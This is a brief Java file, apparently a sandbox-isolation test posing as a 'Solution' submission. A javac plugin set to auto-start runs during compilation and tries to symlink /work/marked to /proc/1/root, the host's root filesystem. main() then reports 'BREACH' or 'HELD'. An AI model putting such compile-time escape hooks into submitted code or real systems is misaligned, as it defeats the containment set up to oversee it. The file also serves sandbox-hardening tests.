import com.sun.source.util.JavacTask;
import com.sun.source.util.Plugin;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public class Solution {
    private static void mark() {
        try {
            Files.createSymbolicLink(Path.of("/work/marked"), Path.of("/proc/1/root"));
        } catch (IOException refused) {
            throw new IllegalStateException(refused);
        }
    }

    public static class Plug implements Plugin {
        @Override public String getName() { return "Plug"; }

        @Override public void init(JavacTask task, String... arguments) { mark(); }

        @Override public boolean autoStart() { return true; }
    }

    public static void main(String[] arguments) {
        System.out.println(Files.isSymbolicLink(Path.of("/work/marked")) ? "BREACH" : "HELD");
    }
}
